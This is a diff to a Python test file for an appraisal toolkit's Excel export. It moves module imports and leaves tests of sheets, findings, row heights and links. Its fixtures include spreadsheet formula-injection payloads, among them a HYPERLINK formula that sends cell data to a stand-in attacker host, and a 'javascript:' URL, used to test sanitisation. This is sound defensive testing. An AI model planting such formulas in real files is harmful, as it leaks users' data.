@@ -11,9 +11,9 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from cmmikit import palette
-from cmmikit.excel import write_gap_workbook
-from cmmikit.rating import rate
-from cmmikit.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text
+from cmmikit.outputs.excel import write_gap_workbook
+from cmmikit.method.rating import rate
+from cmmikit.outputs.xlsx_safe import MAX_CELL_TEXT, CellMaker, csv_text, safe_text, set_text
 
 MALICIOUS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "@SUM(A1:A9)", "+1+2", "-2-3", "=1+1",
              "\t=tab first", "plain text"]
@@ -100,7 +100,7 @@ def test_workbook_has_the_promised_sheets(demo_book):
 def test_the_change_log_sheet_names_who_changed_what(appraisal, tmp_path):
     from openpyxl import load_workbook
 
-    from cmmikit.excel import export_workbook
+    from cmmikit.outputs.excel import export_workbook
 
     appraisal.update_record("SD", "SP 1.1", "Unit A", weaknesses="No SLA reviews")
     with appraisal.transaction():
@@ -319,7 +319,7 @@ def findings_book(demo_file, tmp_path_factory):
     """The sample appraisal after a findings sync, with a hand-written finding and an overdue action."""
     from datetime import date
 
-    from cmmikit.findings import actions_frame, findings_frame, plan_action, sync_findings
+    from cmmikit.method.findings import actions_frame, findings_frame, plan_action, sync_findings
     from cmmikit.store import Appraisal
 
     copy = tmp_path_factory.mktemp("findings") / "demo.cmmi"
@@ -344,7 +344,7 @@ def test_findings_sheet_lists_every_finding_in_rank_order(findings_book):
     assert [r[cols["Finding ID"] - 1] for r in rows] == list(frame["id"])
     ranks = [r[0] for r in rows if r[0] is not None]
     assert ranks == sorted(ranks) and ranks[0] == 1
-    from cmmikit.findings import priority_band
+    from cmmikit.method.findings import priority_band
 
     top = rows[0]
     assert top[cols["Priority"] - 1] == priority_band(top[cols["Score"] - 1])
@@ -430,7 +430,7 @@ def exported(demo_file, tmp_path_factory):
     """The demo after a goal decision and a removed weakness, exported by the CLI path, and its LibreOffice PDF."""
     import hashlib
 
-    from cmmikit.excel import export_workbook
+    from cmmikit.outputs.excel import export_workbook
     from cmmikit.store import Appraisal
 
     folder = tmp_path_factory.mktemp("exported")
@@ -529,7 +529,7 @@ def test_list_sheets_print_one_page_wide_with_their_header_on_every_page(exporte
 
 
 def test_wrapped_rows_are_as_tall_as_their_text(exported):
-    from cmmikit.xlsx_sheet import DEFAULT_ROW_HEIGHT, row_height, wrapped_lines
+    from cmmikit.outputs.xlsx_sheet import DEFAULT_ROW_HEIGHT, row_height, wrapped_lines
 
     ws = exported["wb"]["MA"]
     cols = header_map(ws, 3)
@@ -576,7 +576,7 @@ def test_only_web_addresses_become_links(demo_book):
     cols = header_map(ws, 2)
     row = next(r for r in ws.iter_rows(min_row=3) if r[0].value == demo_book["evidence_id"])
     assert row[cols["Location"] - 1].hyperlink is None and row[cols["Location"] - 1].value == "-2+3"
-    from cmmikit.xlsx_sheet import web_link
+    from cmmikit.outputs.xlsx_sheet import web_link
 
     assert web_link("https://intranet.example/a b") is False
     assert [web_link(t) for t in ("http://x.example", "HTTPS://x.example/p?q=1", "javascript:alert(1)",
@@ -608,7 +608,7 @@ def test_no_cell_shows_nan_or_none(appraisal, tmp_path):
     appraisal.update_record("CM", "SP 1.1", "Unit A", characterization="PI", weaknesses="No CM plan.")
     appraisal.update_record("CM", "SP 1.2", "Unit B", characterization="FI")
     appraisal.add_evidence("CM", "SP 1.1", "Unit A", "artifact", "Plan draft", location="", collected_on="")
-    from cmmikit.findings import plan_action, sync_findings
+    from cmmikit.method.findings import plan_action, sync_findings
 
     sync_findings(appraisal)
     plan_action(appraisal, appraisal.findings()[0].id, "Write the plan")  # no owner, no due date
